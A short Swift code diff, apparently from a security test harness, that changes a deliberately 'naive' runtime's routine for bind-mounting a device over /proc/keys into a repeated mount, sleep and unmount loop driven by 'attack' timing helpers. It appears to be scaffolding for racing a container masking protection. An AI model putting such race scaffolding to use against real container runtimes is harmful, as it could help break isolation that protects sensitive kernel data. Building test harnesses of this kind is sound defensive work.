@@ -39,8 +39,9 @@ enum NaiveRuntime {
 
     private static func mask(_ device: String) {
         // MS_BIND
-        guard call("mount", text(device), text("/proc/keys"), 0, 4096, 0) >= 0 else { return }
-        attack_sleep_until(attack_now() + 50_000)
-        _ = call("umount2", text("/proc/keys"), 2)
+        for _ in 0..<20 where call("mount", text(device), text("/proc/keys"), 0, 4096, 0) >= 0 {
+            attack_sleep_until(attack_now() + 5000)
+            _ = call("umount2", text("/proc/keys"), 2)
+        }
     }
 }
